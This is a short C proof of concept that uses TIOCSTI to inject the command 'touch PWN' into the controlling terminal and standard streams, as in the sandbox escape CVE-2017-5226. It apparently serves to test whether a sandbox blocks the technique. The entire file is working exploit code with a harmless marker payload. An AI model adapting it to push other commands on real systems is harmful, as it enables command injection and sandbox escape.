/* sti: tries to type into every terminal that it can find (TIOCSTI), as CVE-2017-5226 did. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

/* How many characters of the line could be pushed. */
static int push(int fd)
{
    int pushed = 0;
    for (const char *c = "touch PWN\n"; *c; c++)
        pushed += ioctl(fd, TIOCSTI, c) == 0;
    return pushed;
}

int main(void)
{
    int pushed = 0, tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
    for (int fd = 0; fd < 3; fd++)
        pushed += push(fd);
    if (tty >= 0) {
        pushed += push(tty);
        (void)close(tty);
    }
    (void)puts(pushed > 0 ? "pushed something" : "pushed nothing");
    return 0;
}
